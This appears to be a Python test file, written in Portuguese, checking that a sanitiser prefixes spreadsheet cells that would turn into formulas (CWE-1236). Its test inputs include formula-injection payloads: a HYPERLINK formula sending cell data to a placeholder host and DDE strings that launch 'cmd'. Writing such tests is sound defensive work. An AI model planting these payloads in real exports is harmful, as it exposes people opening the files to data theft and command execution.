"""Células de planilha que não viram fórmula no Excel de quem abre (injeção de fórmula, CWE-1236)."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from nucleo.planilhas import celula_segura, texto_seguro


@pytest.mark.parametrize("valor", [
    '=HYPERLINK("http://exemplo.invalid/?d="&A1;"Clique")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "＝1+1",
])
def test_o_que_comeca_como_formula_ganha_apostrofo(valor):
    assert celula_segura(valor) == "'" + valor


@pytest.mark.parametrize("valor", ["-3", "-78,5", "-0.25", "+10", "Maria", "78,5", "", "a=b", "ana@exemplo.org"])
def test_numeros_negativos_e_textos_comuns_ficam_como_estao(valor):
    assert celula_segura(valor) == valor


@pytest.mark.parametrize("valor", [3, -3, 78.5, Decimal("-1.5"), date(2024, 3, 15), True])
def test_valores_que_nao_sao_texto_ficam_como_estao(valor):
    assert celula_segura(valor) == valor


def test_vazio_e_outros_tipos():
    assert celula_segura(None) == ""
    assert celula_segura(["=1"]) == "['=1']"


def test_caracteres_que_o_xlsx_nao_aceita_ficam_visiveis_e_a_celula_grava():
    texto = texto_seguro("Ana\x00\x07\x1b Souza\x0b")
    assert texto == "Ana\ufffd\ufffd\ufffd Souza\ufffd"
    livro = openpyxl.Workbook()
    livro.active.append([texto, celula_segura("\x00=1+1")])
    livro.save(io.BytesIO())
    assert celula_segura("\x00=1+1") == "\ufffd=1+1"
